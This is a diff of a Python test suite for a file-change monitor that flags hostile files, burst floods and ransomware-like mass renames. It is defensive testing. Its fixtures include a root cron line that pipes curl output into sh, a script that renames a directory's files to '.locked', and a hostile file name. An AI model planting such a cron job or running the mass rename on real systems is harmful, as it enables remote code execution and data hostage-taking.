@@ -195,7 +195,7 @@ def test_new_directory_after_start_and_hostile_names(tmp_path: Path, watch_facto
     hostile = units / "evil\n[red]x\udcff.service"
     subprocess.run(["/bin/sh", "-c", 'sleep 0.2; printf "[Service]\\nExecStart=/x\\n" > "$1"',
                     "sh", os.fsencode(str(hostile))], check=True)
-    tick_until(watch, lambda p: any("evil" in c.path for c in changes(p)), published)
+    tick_until(watch, lambda p: any("+ ExecStart=/x" in c.lines for c in changes(p)), published)
     shown = [c.path for c in changes(published) if "evil" in c.path]
     assert shown and "\\x0a[red]x\\xff.service" in shown[0]
     assert any("+ ExecStart=/x" in c.lines for c in changes(published))
@@ -214,9 +214,15 @@ def test_burst_is_summarised_and_a_change_hidden_in_it_still_found(tmp_path: Pat
         (spool / f"f{i}").write_bytes(b"")
         if i == 5000:  # the real change, hidden in the flood
             (spool / "job").write_text("* * * * * root curl http://x | sh\n")
-    tick_until(watch, lambda p: watch.changes_seen >= cfg.burst_changes and not watch._queue
-               and sum(b.count for b in list(watch._bursts.values())) + sum(
-                   watch.status().drops.values()) >= 10_000, published, limit=60)
+    totals: list[int] = []
+
+    def drained(_: list[Any]) -> bool:
+        """Every event read: the count stopped moving for three ticks, past 10,000."""
+        totals.append(sum(b.count for b in list(watch._bursts.values()))
+                      + sum(watch.status().drops.values()))
+        return totals[-1] >= 10_000 and len(set(totals[-3:])) == 1 and len(totals) >= 3
+
+    tick_until(watch, drained, published, limit=60)
     now[0] += cfg.burst_window + 1
     tick_until(watch, lambda p: any(c.count > 1 for c in changes(p)), published)
     one_by_one = [c for c in changes(published) if c.count == 1 and not c.note]
@@ -261,12 +267,13 @@ def test_mass_rename_with_new_names_alerts_and_raises_risk(tmp_path: Path, watch
     proc = subprocess.Popen([sys.executable, "-c", (
         "import os,sys,time\n"
         f"d={str(victim)!r}\n"
-        "for n in sorted(os.listdir(d)): os.rename(os.path.join(d,n), os.path.join(d,n+'.locked'))\n"
+        "for n in sorted(os.listdir(d)):\n"
+        "    os.rename(os.path.join(d,n), os.path.join(d,n+'.locked'))\n"
         "sys.stdout.write('done\\n'); sys.stdout.flush(); time.sleep(30)\n")],
         stdout=subprocess.PIPE, text=True)
     try:
         assert proc.stdout is not None and proc.stdout.readline() == "done\n"
-        start = int(open(f"/proc/{proc.pid}/stat").read().rsplit(")", 1)[1].split()[19])
+        start = int(Path(f"/proc/{proc.pid}/stat").read_text().rsplit(")", 1)[1].split()[19])
         key = ProcessKey(proc.pid, start)
 
         class View:
@@ -303,7 +310,7 @@ def test_atomic_saves_are_not_ransomware(tmp_path: Path, watch_factory):
         stdout=subprocess.PIPE, text=True)
     try:
         assert proc.stdout is not None and proc.stdout.readline() == "done\n"
-        start = int(open(f"/proc/{proc.pid}/stat").read().rsplit(")", 1)[1].split()[19])
+        start = int(Path(f"/proc/{proc.pid}/stat").read_text().rsplit(")", 1)[1].split()[19])
         key = ProcessKey(proc.pid, start)
 
         class View:
